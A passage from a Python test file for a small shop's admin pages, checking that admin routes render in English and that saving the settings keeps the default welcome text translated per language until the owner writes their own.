    assert all(h.func is shop.admin_in_english for _, _, h in shop.ADMIN_ROUTES)
    assert admin.get("/admin/login").text.startswith('<!doctype html>\n<html lang="en">')


def test_saving_the_settings_leaves_the_shops_own_welcome_in_every_language(admin):
    """The welcome and help boxes hold only what the owner wrote (the shop's own text is their
    placeholder): saving the page untouched pins no English text on every other language."""
    conn = admin.shop.conn
    page = admin.get("/admin/settings").text
    assert re.search(
        r'<textarea name="welcome_text"[^>]*placeholder="Welcome! [^"]*"></textarea>', page
    )
    r = admin.post("/admin/settings", settings_form(welcome_text="", help_text=""))
    assert r.status_code in (200, 303)
    assert shop.owner_setting_text(conn, "welcome_text", admin.shop.config) == ""
    with shop.speaking("pl"):
        assert shop.shop_text(conn, "welcome_text") == shop.tr(
            shop.DEFAULT_SETTINGS["welcome_text"]
        )
        assert shop.shop_text(conn, "welcome_text").startswith("Witaj!")
    admin.post("/admin/settings", settings_form(welcome_text="Hello from Paper & Ink"))
    with shop.speaking("pl"):  # the owner's own text, in the default language, for everyone
        assert shop.shop_text(conn, "welcome_text") == "Hello from Paper & Ink"
